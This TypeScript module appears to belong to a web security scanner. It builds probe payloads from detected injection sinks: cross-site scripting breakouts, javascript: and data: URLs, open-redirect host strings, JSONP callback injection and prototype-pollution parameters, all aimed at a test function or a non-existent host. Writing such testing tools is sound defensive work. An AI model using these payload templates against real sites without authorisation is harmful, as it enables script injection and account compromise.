import type { SinkKind } from '../page-messages.ts';

/** A marked string at a sink. */
export interface SinkHit {
  readonly sinkKind: SinkKind;
  readonly sink: string;
  /** Text around the mark, and where the mark begins in it. */
  readonly text: string;
  readonly at: number;
}

const PAYLOADS_MAX = 10;
/** Sink of a value that chooses the host of a request. */
export const REQUEST_SINK = 'request';

/**
 * Strings that call a function if the sinks execute them, likeliest first.
 * @param call for example `p(1)`
 */
export function payloadsFor(hits: readonly SinkHit[], call: string): string[] {
  const kinds = new Set(hits.map(({ sinkKind }) => sinkKind));
  const found = new Set<string>();
  const add = (...payloads: readonly string[]) => {
    for (const payload of payloads) found.add(payload);
  };
  if (kinds.has('html'))
    add(
      `<img src=x onerror=${call}>`,
      `"><img src=x onerror=${call}>`,
      `'><img src=x onerror=${call}>`,
      `"'></script></title></textarea></style><img/src/onerror=${call}>`,
      `--><img src=x onerror=${call}>`,
    );
  for (const hit of hits.filter(({ sinkKind }) => sinkKind === 'script')) add(...scriptPayloads(hit, call));
  if (hits.some(({ sinkKind, sink }) => sinkKind === 'url' && sink !== REQUEST_SINK))
    add(`javascript:${call}//`, `data:text/javascript,${call}`);
  return [...found].slice(0, PAYLOADS_MAX);
}

/** URLs whose whole value, or the end of whose host, is a mark. */
export function urlHits(urls: readonly string[], sink: string, mark: string): SinkHit[] {
  return urls.flatMap((text): SinkHit[] => {
    const url = URL.parse(text);
    if (url?.pathname.split('/').at(-1)?.toLowerCase() === mark) return [{ sinkKind: 'url', sink, text: mark, at: 0 }];
    if (url?.hostname.endsWith(mark) !== true) return [];
    return [{ sinkKind: 'url', sink, text, at: text.toLowerCase().indexOf(mark) }];
  });
}

/**
 * Strings that make a URL lead to another host, whatever precedes them.
 * @param host a host that cannot exist
 */
export function hostPayloads(hits: readonly SinkHit[], host: string): string[] {
  const found = new Set<string>();
  for (const { text, at } of hits.filter(({ sinkKind }) => sinkKind === 'url')) {
    const before = text.slice(0, at).trim();
    if (before === '/') found.add(`/${host}/`);
    else if (/^https?:\/\/[^/?#]{1,100}$/i.test(before)) found.add(`.${host}/`).add(`@${host}/`);
    else if (before === '') found.add(`https://${host}/`).add(`//${host}/`);
  }
  return [...found];
}

/** Strings that make a script that a page requests call our function: as the callback of a JSONP endpoint. */
export function callbackPayloads(hits: readonly SinkHit[], name: string): string[] {
  const isQuery = ({ sinkKind, sink, text, at }: SinkHit) =>
    sinkKind === 'url' && /script/i.test(sink) && text.slice(0, at).includes('?');
  return hits.some(isQuery) ? [`&callback=${name}&`, `&jsonp=${name}&`] : [];
}

/** Parameters that give a property to every object, where a parser copies names without a check. */
export function pollutingPairs(name: string): string {
  return `__proto__[${name}]=${name}&__proto__.${name}=${name}&constructor[prototype][${name}]=${name}`;
}

function scriptPayloads({ text, at }: SinkHit, call: string): string[] {
  const quote = openQuote(text.slice(0, at));
  const inQuotes = quote === '' ? [] : [`${quote};${call}//`, `${quote}-${call}-${quote}`, `${quote});${call}//`];
  return [...inQuotes, call, `name,${call}`, `';${call}//`, `";${call}//`, `);${call}//`, `\n${call}//`];
}

/** The quotation mark of the string that the end of a script is in, or empty. */
function openQuote(script: string): string {
  let open = '';
  for (let index = 0; index < script.length; index += 1) {
    const character = script[index] ?? '';
    if (character === '\\') index += 1;
    else if (open === '') open = /["'`]/.test(character) ? character : '';
    else if (character === open) open = '';
  }
  return open;
}
